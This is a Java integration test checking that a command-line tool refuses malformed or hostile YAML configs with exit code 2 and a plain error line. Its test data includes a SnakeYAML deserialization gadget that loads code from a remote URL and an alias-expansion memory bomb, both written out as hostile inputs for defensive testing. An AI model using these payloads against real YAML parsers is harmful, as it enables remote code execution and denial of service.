package io.vtep.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import io.vtep.topology.Commands;
import io.vtep.topology.ExecResult;
import io.vtep.topology.VtepProcess;

/**
 * {@code bin/vtep run --config BAD} with hostile or broken YAML (issue 15, "Config"): exit code 2
 * and one line that says where, never a stack trace. Nothing starts, so no namespace or root is
 * needed. (The parser's side, case by case: vtep-core's MalformedYamlTest.)
 */
class MalformedConfigTest
{

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|',
        textBlock = """
            a list that contains itself | 'vtep: { local-ip: 192.0.2.1 }\\nvnis: &loop [ *loop ]\\n' | vnis[0]: contains itself through an alias
            a Java class tag            | 'vtep: !!javax.script.ScriptEngineManager [ !!java.net.URLClassLoader [[ !!java.net.URL ["http://192.0.2.9/"] ]] ]\\n' | not valid YAML at line 1
            an alias bomb               | 'a: &a [x,x,x,x,x,x,x,x]\\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\\n' | aliases for non-scalar nodes exceeds the specified max=10
            a duplicate key             | 'vtep: { local-ip: 192.0.2.1 }\\nvtep: { local-ip: 192.0.2.2 }\\n' | vtep: appears twice (line 2)
            a wrong type                | 'vtep: { local-ip: [ 192.0.2.1 ] }\\n' | vtep.local-ip: expected a text value
            binary that is not base64   | 'vtep: { local-ip: !!binary ZXR*MQ== }\\n' | not valid YAML at line 1
            """)
    void isRefusedWithExitCode2AndWhere(String what, String yaml, String expected, @TempDir Path directory) throws IOException
    {
        Path config = directory.resolve("bad.yaml");
        Files.writeString(config, yaml.replace("\\n", "\n"));

        ExecResult run = Commands.run(Duration.ofMinutes(5), List.of(VtepProcess.launcher().toString(), "run", "--config", config.toString()));

        String output = run.stdout() + run.stderr();
        assertEquals(2, run.exitCode(), what + ": " + output);
        assertTrue(output.contains("vtep: configuration error in " + config + ": "), what + ": " + output);
        assertTrue(output.contains(expected), what + ": " + output);
        assertFalse(output.contains("Exception") || output.contains("\tat ") || output.contains("Error:"), what + ", a stack trace: " + output);
    }
}
